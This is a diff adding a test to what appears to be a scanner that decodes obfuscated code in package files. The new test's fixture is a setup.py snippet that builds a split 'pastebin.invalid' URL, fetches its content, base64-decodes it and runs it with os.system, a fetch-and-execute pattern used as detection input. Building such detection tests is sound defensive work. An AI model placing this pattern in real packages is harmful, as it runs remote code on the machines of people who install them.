@@ -282,3 +282,12 @@ def test_an_endpoint_the_folder_decoded_is_a_layer_even_outside_a_sink() -> None
         ("text", ["reverse", "chr-list-sub:3"], url.encode(), 5)]
     # the same URL written plainly is no layer: nothing was hidden
     assert not peel_file("pkg/main.py", f"import requests\nrequests.post({url!r}, data=d)\n".encode()).derived
+
+
+def test_a_gated_file_with_payload_words_gets_a_view_only_when_it_has_something_to_respell():
+    assembled = (b"import base64, os, requests\nu = 'https://paste' + 'bin.invalid/raw/x'\n"
+                 b"os.system(base64.b64decode(requests.get(u).text))\n")
+    names = [d.name for d in peel_file("setup.py", assembled, gated=True).derived]
+    assert "setup.py::normalised" in names
+    plain = b"import base64, os\nos.system(base64.b64decode(c))\n"
+    assert not [d for d in peel_file("setup.py", plain, gated=True).derived if d.kind == "normalised"]
